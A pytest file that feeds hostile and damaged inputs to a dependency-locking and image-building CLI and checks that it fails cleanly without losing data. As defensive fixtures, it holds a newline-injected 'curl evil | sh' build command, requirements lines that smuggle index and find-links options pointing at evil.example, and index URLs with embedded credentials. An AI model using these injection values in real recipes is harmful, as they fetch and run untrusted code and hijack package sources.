"""Bad input gets a clear error, and nothing is lost: the hostile inputs the project promises to
survive, each against the real CLI.

Every case runs ``audit.cli.main.main`` (or ``python -m audit`` in a subprocess, when the process
itself must be killed, interrupted or allowed to crash) in a temporary copy of the project:
the committed demo recipe, its locks and the templates. Each asserts the exit code of the
contract (2 bad input, 3 environment), the words of the error (what, where, what next), that
no traceback is printed, and that nothing already written changed.

Real parts: pip-tools against a local index of tiny wheels (yanked, pre-release and local
versions, and a server that drops the connection halfway through a wheel), a nonexistent
Docker socket, a 1 MiB tmpfs as a full disk (root only).
"""

from __future__ import annotations

import contextlib
import os
import platform
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Protocol

import pytest

from audit.cli.main import main
from audit.docker.container import missing_image
from audit.errors import EXIT_BAD_INPUT, EXIT_ENVIRONMENT, EnvironmentProblem
from audit.history.snapshot import Distribution, Environment, dump_snapshot
from audit.host.process import QUIET_ENV
from audit.lock.files import parse_lock
from tests.support.cli import edit, fails, spawn_audit
from tests.support.fixtures import NO_DAEMON, Wheelhouse
from tests.support.pkgindex import serve_index, yank
from tests.support.project import ProjectSpec, base_record, pip_recipe_toml, write_project

REPO = Path(__file__).resolve().parents[1]
TOML = "images/demo/image.toml"
V1_IN = "images/demo/requirements/v1-http.in"
V1_LOCK = "locks/demo/v1-01.txt"
BASE = "locks/demo/base.json"
QUIET = {QUIET_ENV: "1"}  # a spawned run's stderr holds its messages, not the commands it ran


# ----------------------------------------------------------------------------- helpers


def files_of(root: Path, folder: str) -> dict[str, bytes]:
    """Every file's bytes, but the lock command's own (git-ignored) file lock."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted((root / folder).rglob("*"))
        if p.is_file() and p.name != ".lock"
    }


# ----------------------------------------------------------------------------- recipes


RECIPES = [
    pytest.param(TOML, "platform =", "platfrom =",
                 ["image.toml: image.platfrom", "did you mean 'platform'"], id="misspelt-key"),
    pytest.param(TOML, 'cuda = "cpu"', 'cuda = "cpu"\ncuda = "cu130"',
                 ["image.toml: image.cuda (line 9)", "duplicate key"], id="duplicate-key"),
    pytest.param(TOML, 'run = "/opt', 'run = "true\\nRUN curl evil | sh\\n/opt',
                 ["stage[2].layer[3].run", "newline", "inject"], id="newline-injection"),
    pytest.param(TOML, 'description = "an HTTP client"', 'description = "a \\u001b[2J b"',
                 ["stage[1].description", "control character"], id="control-character"),
    pytest.param(TOML, "pip = ", "pre = \"yes\"\n  pip = ",
                 ["stage[1].layer[1].pre", "must be true or false"], id="pre-not-a-boolean"),
    pytest.param(TOML, 'repository = "layer-audit/demo"',
                 'repository = "layer-audit/demo"\nindex_url = "https://me:s3cret@example.org/simple"',
                 ["image.index_url", "credentials", "BuildKit secret"], id="index-credentials"),
]  # fmt: skip
REQUIREMENTS = [
    pytest.param("requests (>=2", ["v1-http.in:1", "not a PEP 508 requirement"], id="not-pep508"),
    pytest.param("requests --index-url https://evil.example/simple",
                 ["v1-http.in:1", "not a PEP 508"], id="option-on-a-requirement-line"),
    pytest.param("--index-url https://evil.example/simple",
                 ["--index-url https://evil.example/simple is not declared", "[indexes]"],
                 id="smuggled-index-url"),
    pytest.param("--extra-index-url=https://evil.example/simple",
                 ["--extra-index-url https://evil.example/simple is not declared"],
                 id="smuggled-extra-index-url"),
    pytest.param("--trusted-host evil.example",
                 ["--trusted-host evil.example is not the host of a declared index"],
                 id="smuggled-trusted-host"),
    pytest.param("-fhttps://evil.example/links",
                 ["--find-links https://evil.example/links is not declared"], id="smuggled-f"),
    pytest.param("-i https://u:p@pypi.org/simple", ["credentials", "BuildKit secrets"],
                 id="index-option-with-credentials"),
    pytest.param("Requests_Toolbelt\nrequests.toolbelt",
                 ["'requests.toolbelt' is already listed at", "differ only in"],
                 id="names-differ-only-in-normalisation"),
    pytest.param("torch>=2.9.0+cu130", ["Local version label can only be used with"],
                 id="local-label-outside-equals"),
    pytest.param("--pre", ["option --pre is not allowed", "pre = true"], id="pre-as-an-option"),
]  # fmt: skip


@pytest.mark.parametrize(("relpath", "old", "new", "expected"), RECIPES)
def test_bad_recipe_exits_2_located_and_writes_nothing(
    demo: Path,
    capsys: pytest.CaptureFixture[str],
    relpath: str,
    old: str,
    new: str,
    expected: list[str],
) -> None:
    edit(demo, relpath, old, new)
    err = fails(capsys, EXIT_BAD_INPUT, "render", "demo")
    for words in expected:
        assert words in err
    assert "hint:" in err
    assert not (demo / "build").exists()


@pytest.mark.parametrize("command", ["render", "lock", "audit-deps"])
@pytest.mark.parametrize(("line", "expected"), REQUIREMENTS)
def test_bad_requirements_line_exits_2_in_every_command(
    demo: Path,
    capsys: pytest.CaptureFixture[str],
    command: str,
    line: str,
    expected: list[str],
) -> None:
    before = files_of(demo, "locks")
    (demo / V1_IN).write_text(f"{line}\n")
    argv = [command, "demo", *(["--check"] if command == "lock" else [])]
    err = fails(capsys, EXIT_BAD_INPUT, *argv)
    for words in expected:
        assert words in err
    assert "stage[1].layer[1].pip" in err  # the layer that reads the file
    assert files_of(demo, "locks") == before


def test_undeclared_smuggled_index_is_refused_even_in_an_include(
    demo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (demo / "images/demo/requirements/extra.in").write_text("-i https://evil.example/simple\n")
    (demo / V1_IN).write_text("-r extra.in\nrequests\n")
    err = fails(capsys, EXIT_BAD_INPUT, "render", "demo")
    assert "requirements/extra.in:1: --index-url https://evil.example/simple is not" in err


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        pytest.param(lambda p: p.write_bytes(p.read_bytes() + b"\n# caf\xe9\n"), "not UTF-8",
                     id="not-utf8"),
        pytest.param(lambda p: (p.unlink(), p.mkdir()), "cannot read (Is a directory)",
                     id="a-directory"),
        pytest.param(lambda p: p.write_text("a = " + "[" * 50000 + "]" * 50000 + "\n"),
                     "nested too deeply", id="nested-50000-deep"),
        pytest.param(lambda p: p.write_text(""), "image: required key is missing", id="empty"),
    ],
)  # fmt: skip
def test_unreadable_recipe_file_exits_2(
    demo: Path, capsys: pytest.CaptureFixture[str], damage: object, expected: str
) -> None:
    damage(demo / TOML)  # type: ignore[operator]
    assert expected in fails(capsys, EXIT_BAD_INPUT, "render", "demo")


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        pytest.param(lambda p: p.write_bytes(b"requests\n\xff\n"), "not UTF-8", id="not-utf8"),
        pytest.param(lambda p: (p.unlink(), p.mkdir()), "cannot read (Is a directory)",
                     id="a-directory"),
        pytest.param(lambda p: (p.unlink(), p.symlink_to("/nonexistent/x.in")),
                     "requirements/v1-http.in does not exist", id="broken-symlink"),
        pytest.param(lambda p: p.write_text("# nothing yet\n-c constraints.txt\n"),
                     "names no requirement to install", id="nothing-to-install"),
    ],
)  # fmt: skip
def test_unreadable_requirements_file_exits_2(
    demo: Path, capsys: pytest.CaptureFixture[str], damage: object, expected: str
) -> None:
    damage(demo / V1_IN)  # type: ignore[operator]
    err = fails(capsys, EXIT_BAD_INPUT, "lock", "demo", "--check")
    assert expected in err and "stage[1].layer[1].pip" in err


def test_a_huge_value_is_no_crash(demo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit(demo, TOML, "an HTTP client", "x" * 1_000_000)
    edit(demo, V1_IN, "requests", "requests==" + "1." * 50_000 + "0\nurllib3")
    assert main(["render", "demo"]) == 0
    assert "Traceback" not in capsys.readouterr().err


def test_waiver_versions_are_stored_in_normal_form(demo: Path) -> None:
    from audit.project.sources import DirectorySource
    from audit.recipe.parse import load_recipe

    waiver = '\n[[policy.waiver]]\npackage = "Torch"\nfrom = "2.9.0+CU130"\nto = "2.10-RC1"\n'
    (demo / TOML).write_text((demo / TOML).read_text() + waiver + 'reason = "test"\n')
    (found,) = load_recipe(DirectorySource(demo), "demo").policy.waivers
    assert (found.package, found.from_version, found.to_version) == (
        "torch",
        "2.9.0+cu130",
        "2.10rc1",
    )


# ----------------------------------------------------------------------------- locks and snapshots


LOCK_DAMAGE = [
    pytest.param(lambda b: b[: len(b) // 2], "truncated", id="truncated"),
    pytest.param(lambda b: b"", "not a layer-audit lock", id="emptied"),
    pytest.param(lambda b: b.replace(b"certifi==2026.10.19.post1", b"certifi==2024.2.2"),
                 "edited by hand", id="hand-edited-pin"),
    pytest.param(lambda b: b.replace(b"# input pre: sha256:6", b"# input pre: sha256:7"),
                 "edited by hand", id="hand-edited-input-line"),
    pytest.param(lambda b: b"\xff" + b, "not UTF-8", id="not-utf8"),
]  # fmt: skip


@pytest.mark.parametrize("command", ["lock", "audit-deps"])
@pytest.mark.parametrize(("damage", "expected"), LOCK_DAMAGE)
def test_damaged_lock_exits_2_and_names_the_file(
    demo: Path, capsys: pytest.CaptureFixture[str], command: str, damage: object, expected: str
) -> None:
    lock = demo / V1_LOCK
    lock.write_bytes(damage(lock.read_bytes()))  # type: ignore[operator]
    argv = [command, "demo", *(["--check"] if command == "lock" else [])]
    err = fails(capsys, EXIT_BAD_INPUT, *argv)
    assert f"{V1_LOCK}: " in err and expected in err
    assert "re-create it with layer-audit lock" in err  # no noxfile in the copy: the CLI


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        pytest.param(lambda b: b[:500], "not JSON", id="truncated"),
        pytest.param(lambda b: b.replace(b'"installer": "pip"', b'"installer": "pop"', 1),
                     "digest: does not match", id="tampered"),
        pytest.param(lambda b: b.replace(b'"schema": "layer-audit.base/1"', b'"schema": "x"'),
                     "not a base record", id="other-schema"),
    ],
)  # fmt: skip
def test_damaged_base_record_exits_2(
    demo: Path, capsys: pytest.CaptureFixture[str], damage: object, expected: str
) -> None:
    base = demo / BASE
    base.write_bytes(damage(base.read_bytes()))  # type: ignore[operator]
    err = fails(capsys, EXIT_BAD_INPUT, "audit-deps", "demo")
    assert f"{BASE}: " in err and expected in err and "--record-base" in err


def test_build_refuses_a_hand_edited_lock_before_docker(
    demo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", NO_DAEMON)
    edit(demo, V1_LOCK, "certifi==2026.10.19.post1", "certifi==2024.2.2")
    assert "edited by hand" in fails(capsys, EXIT_BAD_INPUT, "build", "demo")


@pytest.mark.parametrize("relpath", [V1_LOCK, BASE])
def test_a_directory_where_a_lock_belongs_exits_2(
    demo: Path, capsys: pytest.CaptureFixture[str], relpath: str
) -> None:
    (demo / relpath).unlink()
    (demo / relpath).mkdir()
    assert main(["lock", "demo", "--check"]) == EXIT_BAD_INPUT


def snapshot_file(path: Path, version: str) -> Path:
    dist = Distribution("alpha", version, "/site", "pip", "sha256:00", "alpha")
    path.write_bytes(dump_snapshot([Environment("/py", "3.11.7", {}, ("/site",), (dist,))]))
    return path


SNAPSHOT_DAMAGE = [
    pytest.param(lambda b: b[:40], "truncated or invalid JSON", id="truncated"),
    pytest.param(lambda b: b.replace(b'"1.0"', b'"0.9"'), "digest: does not match", id="tampered"),
    pytest.param(lambda b: b"[" * 100_000 + b"]" * 100_000, "RecursionError", id="nested"),
    pytest.param(lambda b: b"9" * 5000, "not a snapshot", id="5000-digit-number"),
    pytest.param(lambda b: b"\xfe\xff", "not UTF-8", id="not-utf8"),
]  # fmt: skip


@pytest.mark.parametrize(("damage", "expected"), SNAPSHOT_DAMAGE)
def test_damaged_snapshot_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: object, expected: str
) -> None:
    good = snapshot_file(tmp_path / "good.json", "1.0")
    bad = tmp_path / "bad.json"
    bad.write_bytes(damage(good.read_bytes()))  # type: ignore[operator]
    err = fails(capsys, EXIT_BAD_INPUT, "diff", str(good), str(bad))
    assert f"{bad}: " in err and expected in err and "python -m audit snapshot" in err


OUTPUT_INPUTS = {
    "snapshot": ["--python", "/nonexistent"],
    # the work would be a container run: Docker must not even be asked (it would exit 3)
    "audit-deps": ["--image", "layer-audit/never-built:none"],
}


@pytest.mark.parametrize("command", ["diff", "snapshot", "audit-deps"])
@pytest.mark.parametrize("output", ["folder", "file/below-a-file.json"])
def test_output_that_cannot_be_a_file_exits_2_before_any_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, output: str
) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "file").write_text("keep me\n")
    snap = snapshot_file(tmp_path / "s.json", "1.0")
    inputs = OUTPUT_INPUTS.get(command, [str(snap), str(snap)])
    err = fails(capsys, EXIT_BAD_INPUT, command, *inputs, "--output", str(tmp_path / output))
    assert f"--output {tmp_path / output}" in err
    assert (tmp_path / "file").read_text() == "keep me\n"


# ----------------------------------------------------------------------------- yanked, pre, local


def index_project(root: Path, index: str, v1: str, pre: bool = False) -> Path:
    """Recipe ``t``: one pip layer on ``index``, a base record matching this host's Python."""
    toml = pip_recipe_toml(["v1"], index_url=index, pre=pre)
    base = base_record(python=platform.python_version(), image_id="sha256:t")
    return write_project(root, ProjectSpec("t", toml, {"v1.in": v1}, base))


class IndexedProject(Protocol):
    def __call__(self, v1: str, pre: bool = False) -> Path: ...


@pytest.fixture
def indexed(tmp_path: Path, local_index: str, monkeypatch: pytest.MonkeyPatch) -> IndexedProject:
    """``indexed(v1, pre=False)``: :func:`index_project` on the local index, now the cwd."""

    def make(v1: str, pre: bool = False) -> Path:
        root = index_project(tmp_path / "p", local_index, v1, pre)
        monkeypatch.chdir(root)
        return root

    return make


def pins(root: Path) -> dict[str, str]:
    lock = parse_lock((root / "locks/t/v1-01.txt").read_bytes(), "v1-01")
    return {name: pin.version for name, pin in lock.pins.items()}


@pytest.fixture
def versions(wheelhouse: Wheelhouse) -> Wheelhouse:
    """alpha 1.0, 2.0 (yanked), 3.0rc1; torchy 2.9.0 in two local builds; a pre-only package."""
    wheelhouse("alpha", "1.0")
    yank(wheelhouse("alpha", "2.0"), "broken metadata")
    wheelhouse("alpha", "3.0rc1")
    wheelhouse("torchy", "2.9.0+cpu")
    wheelhouse("torchy", "2.9.0+cu130")
    wheelhouse("onlypre", "1.0b1")
    return wheelhouse


@pytest.mark.slow
@pytest.mark.parametrize(
    ("v1", "pre", "expected"),
    [
        pytest.param("alpha\n", False, {"alpha": "1.0"}, id="yanked-and-pre-are-skipped"),
        pytest.param("alpha==2.0\n", False, {"alpha": "2.0"}, id="yanked-pinned-exactly-is-kept"),
        pytest.param("alpha>=3.0rc1\n", False, {"alpha": "3.0rc1"}, id="pre-asked-by-name"),
        pytest.param("alpha\n", True, {"alpha": "3.0rc1"}, id="pre-true-takes-the-newest"),
        pytest.param("onlypre\n", False, {"onlypre": "1.0b1"}, id="pre-when-nothing-else"),
        pytest.param("torchy==2.9.0+cpu\n", False, {"torchy": "2.9.0+cpu"}, id="local-pinned"),
        pytest.param("torchy==2.9.0\n", False, {"torchy": "2.9.0+cu130"},
                     id="public-pin-takes-the-highest-local-label"),
    ],
)  # fmt: skip
def test_what_a_lock_pins_for_yanked_pre_and_local_versions(
    versions: Wheelhouse,
    indexed: IndexedProject,
    v1: str,
    pre: bool,
    expected: dict[str, str],
) -> None:
    """pip's rules, documented in docs/recipes.md: the lock records exactly what was chosen."""
    root = indexed(v1, pre)
    assert main(["lock", "t", "--host"]) == 0
    assert pins(root) == expected


def test_a_range_only_met_by_yanked_or_pre_releases_exits_2(
    versions: Wheelhouse, indexed: IndexedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    root = indexed("alpha>=2.0,<3\n")
    err = fails(capsys, EXIT_BAD_INPUT, "lock", "t", "--host")
    assert "no version of alpha" in err and "on the recipe's indexes" in err
    assert not (root / "locks/t/v1-01.txt").exists()


@pytest.mark.slow
def test_a_version_yanked_after_locking_keeps_the_lock_fresh(
    wheelhouse: Wheelhouse, indexed: IndexedProject
) -> None:
    """Like Cargo: a yanked release stays installable from a lock; only a re-lock moves off it."""
    wheelhouse("alpha", "1.0")
    wheel = wheelhouse("alpha", "2.0")
    root = indexed("alpha\n")
    assert main(["lock", "t", "--host"]) == 0
    locked = (root / "locks/t/v1-01.txt").read_bytes()
    yank(wheel, "oops")
    assert main(["lock", "t", "--check"]) == 0
    assert main(["lock", "t", "--host"]) == 0
    assert (root / "locks/t/v1-01.txt").read_bytes() == locked


@pytest.mark.slow
def test_locking_a_yanked_pin_warns_with_the_reason(
    versions: Wheelhouse, indexed: IndexedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    indexed("alpha==2.0\n")
    assert main(["lock", "t", "--host"]) == 0
    err = capsys.readouterr().err
    assert "yanked" in err and "broken metadata" in err


# ----------------------------------------------------------------------------- network, Ctrl-C


@pytest.fixture
def locked(tmp_path: Path, wheelhouse: Wheelhouse, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Project ``t`` locked against a good index; then v1.in asks for a wheel not yet fetched."""
    wheelhouse("alpha", "1.0")
    with serve_index(wheelhouse.path) as url:
        root = index_project(tmp_path / "p", url, "alpha\n")
        monkeypatch.chdir(root)
        assert main(["lock", "t", "--host"]) == 0
    wheelhouse("alpha", "1.1", files={"alpha/big.py": "x = 1\n" * 50_000})
    (root / "images/t/requirements/v1.in").write_text("alpha>=1.1\n")
    return root


def relock_through(root: Path, index: str) -> None:
    """Point the recipe at ``index`` (its old lock is stale anyway: v1.in changed)."""
    toml = root / "images/t/image.toml"
    text = toml.read_text()
    start = text.index('index_url = "') + len('index_url = "')
    toml.write_text(text[:start] + index + text[text.index('"', start) :])


@pytest.mark.slow
def test_network_dropping_mid_download_leaves_the_old_lock(
    locked: Path, wheelhouse: Wheelhouse, capsys: pytest.CaptureFixture[str]
) -> None:
    before = files_of(locked, "locks")
    with serve_index(wheelhouse.path, "drop") as url:
        relock_through(locked, url)
        assert main(["lock", "t", "--host"]) != 0
    err = capsys.readouterr().err
    assert "v1 layer 1 (requirements/v1.in)" in err and "Traceback" not in err
    assert files_of(locked, "locks") == before
    assert not list((locked / "locks/t").glob(".*.tmp"))


@pytest.mark.slow
def test_network_dropping_mid_download_exits_3_with_a_hint(
    locked: Path, wheelhouse: Wheelhouse, capsys: pytest.CaptureFixture[str]
) -> None:
    with serve_index(wheelhouse.path, "drop") as url:
        relock_through(locked, url)
        err = fails(capsys, EXIT_ENVIRONMENT, "lock", "t", "--host")
    assert "check the network" in err


@pytest.mark.slow
def test_ctrl_c_mid_compile_exits_130_and_keeps_the_old_lock(
    locked: Path, wheelhouse: Wheelhouse, tmp_path: Path
) -> None:
    before = files_of(locked, "locks")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    with serve_index(wheelhouse.path, "slow") as url:
        relock_through(locked, url)
        process = spawn_audit(locked, "lock", "t", "--host", TMPDIR=str(scratch), **QUIET)
        deadline = time.monotonic() + 60
        while not any(scratch.glob("layer-audit-lock-*/driver.py")):
            assert time.monotonic() < deadline and process.poll() is None
            time.sleep(0.02)
        time.sleep(1.0)  # pip-compile is now waiting for the slow wheel
        os.killpg(process.pid, signal.SIGINT)  # as a terminal's Ctrl-C: the whole group
        _, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    assert "interrupted" in err and "Traceback" not in err
    assert files_of(locked, "locks") == before
    assert not list(scratch.iterdir())  # the work folder went with it


# ----------------------------------------------------------------------------- Docker and disk


@pytest.mark.parametrize(
    "argv", [["lock", "demo", "--record-base"], ["build", "demo"]], ids=["lock", "build"]
)
def test_missing_daemon_exits_3_naming_the_socket(
    demo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, argv: list[str]
) -> None:
    monkeypatch.setenv("DOCKER_HOST", NO_DAEMON)
    before = files_of(demo, "locks")
    err = fails(capsys, EXIT_ENVIRONMENT, *argv)
    assert "no socket at /nonexistent/layer-audit-test.sock" in err and "start dockerd" in err
    assert files_of(demo, "locks") == before


def test_missing_offline_base_image_says_how_to_make_it() -> None:
    problem = missing_image("layer-audit/base:trixie-arm64")
    assert isinstance(problem, EnvironmentProblem)
    assert "python -m audit base-image --suite trixie --arch arm64" in problem.hint
    assert "docker pull" in missing_image("vllm/vllm-openai:nightly").hint


@pytest.mark.docker
def test_missing_base_image_exits_3_with_the_command_to_make_it(
    demo: Path, capsys: pytest.CaptureFixture[str], docker_client: object
) -> None:
    edit(demo, TOML, "layer-audit/base:bookworm-amd64", "layer-audit/base:nosuchsuite-amd64")
    before = files_of(demo, "locks")
    err = fails(capsys, EXIT_ENVIRONMENT, "lock", "demo", "--record-base")
    assert "image not found in the local Docker image store: layer-audit/base:nosuchsuite" in err
    assert "python -m audit base-image --suite nosuchsuite --arch amd64" in err
    assert files_of(demo, "locks") == before


def test_bad_base_image_tag_exits_2_before_docker(capsys: pytest.CaptureFixture[str]) -> None:
    err = fails(capsys, EXIT_BAD_INPUT, "base-image", "--tag", "Upper Case:x")
    assert "--tag 'Upper Case:x': not an image reference" in err


@contextlib.contextmanager
def full_disk(folder: Path, size: str = "1m") -> Iterator[Path]:
    """A small tmpfs at ``folder`` (root only); unmounted afterwards whatever happens."""
    if os.geteuid() != 0:
        pytest.skip("a full disk needs a tmpfs mount, which needs root")
    folder.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)], check=False
    )
    if done.returncode != 0:
        pytest.skip("mount -t tmpfs is not permitted here")
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False)


def fill(folder: Path) -> None:
    with contextlib.suppress(OSError), (folder / "filler").open("wb") as handle:
        while True:
            handle.write(b"\0" * 4096)
            handle.flush()


def render_on_a_full_disk(demo: Path) -> tuple[subprocess.Popen[str], dict[str, bytes]]:
    assert main(["render", "demo"]) == 0
    before = files_of(demo, "build/demo")
    fill(demo / "build")
    edit(demo, TOML, "an HTTP client", "an HTTP client, described at length " + "x" * 9000)
    return spawn_audit(demo, "render", "demo", **QUIET), before


def test_full_disk_leaves_the_earlier_render_intact(demo: Path) -> None:
    with full_disk(demo / "build"):
        process, before = render_on_a_full_disk(demo)
        process.communicate(timeout=120)
        assert process.returncode != 0
        assert files_of(demo, "build/demo") == before
        assert not list((demo / "build").rglob("*.tmp"))


def test_full_disk_exits_3_with_a_hint(demo: Path) -> None:
    with full_disk(demo / "build"):
        process, _ = render_on_a_full_disk(demo)
        _, err = process.communicate(timeout=120)
    assert process.returncode == EXIT_ENVIRONMENT and "Traceback" not in err
    assert "no space left" in err.lower() and "free disk space" in err
